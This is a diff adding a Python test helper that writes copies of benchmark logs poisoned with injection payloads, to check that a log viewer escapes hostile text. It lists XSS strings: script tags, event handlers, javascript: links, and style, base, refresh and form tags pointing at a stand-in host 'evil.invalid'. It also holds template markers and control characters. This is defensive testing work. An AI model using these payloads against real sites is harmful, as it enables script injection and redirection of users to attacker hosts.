@@ -1,0 +1,78 @@
+"""Logs whose texts try to run scripts, to load files and to break out of their place in a page.
+
+A script that runs sets ``window.pwned``.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+_PARTS = (
+    "</title></style></script>",
+    "<script>window.pwned = 1</script>",
+    "<img src=x onerror=window.pwned=1>",
+    "\"><svg onload='window.pwned=1'>",
+    "' onmouseover='window.pwned=1' onfocus='window.pwned=1' autofocus tabindex=1 x='",
+    '" onmouseover="window.pwned=1" style="position:fixed;inset:0" x="',
+    "<style>@import 'http://evil.invalid/a.css'; body { display: none }</style>",
+    "<base href='http://evil.invalid/'><link rel=stylesheet href='http://evil.invalid/b.css'>",
+    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
+    "<iframe src='javascript:parent.pwned=1'></iframe><form action='http://evil.invalid/'><button>send</button></form>",
+    "<a href='javascript:window.pwned=1'>click</a> [click](javascript:window.pwned=1)",
+    "'; script-src 'unsafe-inline'; style-src *; x='",
+    "--> ]]> <!-- <![CDATA[",
+    "{{ 7 * 7 }} {% raw %}",
+    "\u202e\u2066\u200b\x1b[31m\x00\ud800",
+)
+PAYLOAD = " ".join(_PARTS)
+ADDRESS = "javascript:window.pwned=1//"
+#: What readers take by its value: a log with another is no log.
+_READ = {"record", "status", "best_by", "command", "shape", "shapes", "phase", "regime", "regimes", "reference"}
+_READ |= {
+    "dtype",
+    "out_dtype",
+    "layout",
+    "data",
+    "direction",
+    "backward_count",
+    "uuid_hash",
+    "started",
+    "time",
+    "order",
+}
+_READ |= {"operation"}
+
+
+def write_hostile_logs(folder: Path, *logs: Path) -> list[Path]:
+    """A copy of each log, with the payload in its name and in every text that a log can hold."""
+    folder.mkdir()
+    return [
+        _write(folder / f"{number} <img src=x onerror=window.pwned=1>.jsonl", log) for number, log in enumerate(logs)
+    ]
+
+
+def _write(path: Path, log: Path) -> Path:
+    records = [_poisoned(json.loads(line)) for line in log.read_text(encoding="utf-8").splitlines()]
+    header = records[0]
+    header["notes"] = header["command"] = f"mamf find {PAYLOAD}"
+    header["findings"] = [f"{level} {PAYLOAD}" for level in ("ok", "warn", PAYLOAD)] + [ADDRESS]
+    header["device"]["versions"] = {PAYLOAD: PAYLOAD, "address": ADDRESS}
+    header["environment"]["variables"] = {PAYLOAD: ADDRESS}
+    for record in records:
+        if record["record"] == "measurement":
+            record |= {"remarks": [PAYLOAD, ADDRESS], "throttle_reasons": [PAYLOAD], "details": {"ran": PAYLOAD}}
+    path.write_text("".join(json.dumps(record) + "\n" for record in records), encoding="utf-8")
+    return path
+
+
+def _poisoned(value: Any, name: str = "") -> Any:
+    """A record with the payload behind every text in it that is not ``_READ``."""
+    if name in _READ:
+        return value
+    if isinstance(value, str):
+        return f"{value} {PAYLOAD}"
+    if isinstance(value, dict):
+        return {key: _poisoned(each, key) for key, each in value.items()}
+    return [_poisoned(each) for each in value] if isinstance(value, list) else value
